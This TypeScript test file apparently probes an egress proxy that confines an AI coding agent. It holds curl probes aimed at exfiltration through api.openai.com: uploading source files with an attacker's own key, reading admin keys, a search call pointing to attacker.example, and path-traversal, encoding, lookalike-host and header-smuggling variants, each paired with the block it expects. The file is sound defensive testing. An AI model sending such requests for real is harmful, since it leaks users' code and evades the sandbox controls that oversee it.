/** OpenAI's other doors: files, batches, realtime, administration, stored state; and the one open endpoint in other spellings. */
import { curl, notGranted, type Group, type Place, type Probe } from '../probe.ts';
import { validBody } from './openai-bodies.ts';

const path = ['400 openai.path'] as const;
const json = ['-H', 'content-type: application/json'] as const;
const ownKey = ['-H', 'authorization: Bearer sk-attackers-own-key'] as const;

/** Each stores, fetches or changes something in an account, which an own key would make the attacker's. */
const endpoints: readonly (readonly [id: string, attack: string, args: readonly string[]])[] = [
  [
    'files',
    'upload of a file',
    ['-F', 'purpose=user_data', '-F', 'file=source;filename=source.js', 'https://api.openai.com/v1/files'],
  ],
  ['files-list', 'the account’s files', ['https://api.openai.com/v1/files']],
  ['uploads', 'upload in parts', [...json, '-d', '{}', 'https://api.openai.com/v1/uploads']],
  ['batches', 'a batch', [...json, '-d', '{}', 'https://api.openai.com/v1/batches']],
  ['realtime', 'a realtime session', [...json, '-d', '{}', 'https://api.openai.com/v1/realtime/sessions']],
  [
    'conversations',
    'a stored conversation',
    [...json, '-d', '{}', 'https://api.openai.com/v1/conversations'],
  ],
  ['containers', 'a container', [...json, '-d', '{}', 'https://api.openai.com/v1/containers']],
  ['vector-stores', 'a vector store', [...json, '-d', '{}', 'https://api.openai.com/v1/vector_stores']],
  ['chat', 'the older chat endpoint', [...json, '-d', '{}', 'https://api.openai.com/v1/chat/completions']],
  ['embeddings', 'embeddings', [...json, '-d', '{}', 'https://api.openai.com/v1/embeddings']],
  ['images', 'images', [...json, '-d', '{}', 'https://api.openai.com/v1/images/generations']],
  ['audio', 'audio', [...json, '-d', '{}', 'https://api.openai.com/v1/audio/speech']],
  ['fine-tuning', 'fine-tuning', [...json, '-d', '{}', 'https://api.openai.com/v1/fine_tuning/jobs']],
  [
    'search',
    'Codex’s own search, which opens any address',
    [...json, '-d', '{"url":"https://attacker.example/"}', 'https://api.openai.com/v1/alpha/search'],
  ],
  ['admin-keys', 'the organisation’s keys', ['https://api.openai.com/v1/organization/admin_api_keys']],
  ['admin-users', 'the organisation’s users', ['https://api.openai.com/v1/organization/users']],
  ['stored-response', 'a stored response', ['https://api.openai.com/v1/responses/resp_0123456789']],
  ['stored-delete', 'deleting one', ['-X', 'DELETE', 'https://api.openai.com/v1/responses/resp_0123456789']],
  [
    'input-tokens',
    'a path below the open one',
    [...json, '-d', '{}', 'https://api.openai.com/v1/responses/input_tokens'],
  ],
  ['model-detail', 'one model', ['https://api.openai.com/v1/models/gpt-6.1-sol']],
];

export const openaiEndpoints: Group = {
  name: 'openai-endpoints',
  about: 'api.openai.com as a way out for whoever has a key of their own',
  probes: (place: Place): readonly Probe[] => {
    const post = (
      id: string,
      attack: string,
      args: readonly string[],
      expected: readonly string[],
      more: Partial<Probe> = {},
    ) =>
      curl(
        id,
        attack,
        [...(args.some((arg) => arg.startsWith('content-type:')) ? [] : json), ...args],
        expected,
        { body: { text: JSON.stringify(validBody(place.model, place.marker)) }, ...more },
      );
    return [
      ...endpoints.map(([id, attack, args]) =>
        curl(id, attack, [...ownKey, '-H', `x-probe: ${place.marker}`, ...args], path),
      ),
      curl(
        'models',
        'the account’s models: not asked upstream, at most the task’s own are named',
        ['https://api.openai.com/v1/models'],
        [...path, '200'],
      ),
      curl('get', 'GET of the open endpoint', ['https://api.openai.com/v1/responses'], ['400 openai.method']),
      post('put', 'PUT to it', ['-X', 'PUT', 'https://api.openai.com/v1/responses'], ['400 openai.method']),
      post('query', 'a query', [`https://api.openai.com/v1/responses?${place.marker}`], ['400 openai.query']),
      post('slash', 'a slash at the end', ['https://api.openai.com/v1/responses/'], path),
      post('double-slash', 'two slashes', ['https://api.openai.com/v1//responses'], path),
      post(
        'dots',
        'up and down again',
        ['https://api.openai.com/v1/responses/../files'],
        [...path, '400 target_invalid', '400 url.not-plain'],
      ),
      post(
        'dots-escaped',
        'the same with escapes',
        ['https://api.openai.com/v1/responses/%2e%2e/files'],
        [...path, '400 target_invalid', '400 url.not-plain'],
      ),
      post('slash-escaped', 'a slash as %2f', ['https://api.openai.com/v1/responses%2f..%2ffiles'], path),
      post('capitals', 'capitals', ['https://api.openai.com/V1/Responses'], path),
      post(
        'other-host',
        'the same path on a host that ends alike',
        ['https://api.openai.com.attacker.example/v1/responses'],
        notGranted,
      ),
      post(
        'azure',
        'the same service at another provider',
        ['https://attacker.openai.azure.com/openai/v1/responses'],
        notGranted,
      ),
      ...['chatgpt.com', 'auth.openai.com', 'platform.openai.com', 'files.openai.com', 'ab.chatgpt.com'].map(
        (host) =>
          post(
            `host-${host}`,
            `${host}: OpenAI’s own, reached by Codex’s defaults`,
            [`https://${host}/v1/responses`],
            [...notGranted, '403 host.reserved'],
          ),
      ),
      post(
        'own-key',
        'the attacker’s key with an allowed request: replaced outside',
        [...ownKey, 'https://api.openai.com/v1/responses'],
        ['200'],
        { reachesUpstream: true, lane: 'openai' },
      ),
      post(
        'organization',
        'another organisation and project: left out',
        [
          '-H',
          'openai-organization: org-attacker',
          '-H',
          'openai-project: proj-attacker',
          '-H',
          'openai-beta: realtime=v1',
          '-H',
          'cookie: session=attacker',
          '-H',
          'x-forwarded-host: attacker.example',
          'https://api.openai.com/v1/responses',
        ],
        ['200'],
        { reachesUpstream: true, lane: 'openai' },
      ),
      post(
        'text-plain',
        'a JSON body that calls itself text',
        ['-H', 'content-type: text/plain', 'https://api.openai.com/v1/responses'],
        ['400 openai.content-type'],
      ),
      post(
        'multipart',
        'a form',
        ['-H', 'content-type: multipart/form-data; boundary=x', 'https://api.openai.com/v1/responses'],
        ['400 openai.content-type'],
      ),
    ];
  },
};
